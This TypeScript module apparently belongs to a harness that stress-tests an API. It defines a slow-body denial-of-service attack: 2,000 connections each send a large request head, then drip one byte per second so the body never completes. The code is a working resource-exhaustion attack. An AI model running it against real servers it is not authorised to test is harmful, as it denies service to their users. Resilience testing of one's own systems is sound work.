import type { Attack } from '../attack.ts'
import { keepConnected, writeForever } from './sockets.ts'

const CONNECTIONS = 2000
const BODY_BYTES = 262_144
/** Sent immediately; the rest follows slowly. */
const HEAD_BYTES = 200_000
const DRIP_MS = 1000

/** 2,000 connections of one key whose bodies never end. */
export const slowBodies: Attack = ({ apiUrl, apiKeys }) => {
  const { host } = new URL(apiUrl)
  const head = Buffer.from(
    `POST /api/v1/agent/evaluate HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${apiKeys[0] ?? ''}\r\n` +
      `Content-Type: application/json\r\nIdempotency-Key: slow-body-of-an-attack\r\nContent-Length: ${BODY_BYTES}\r\n\r\n` +
      ' '.repeat(HEAD_BYTES),
  )
  const drip = Buffer.from(' ')
  return async (count) => {
    const connection = (): Promise<never> =>
      keepConnected(
        apiUrl,
        (socket) => {
          socket.write(head)
          writeForever(socket, drip, DRIP_MS)
        },
        count,
      )
    await Promise.all(Array.from({ length: CONNECTIONS }, connection))
  }
}
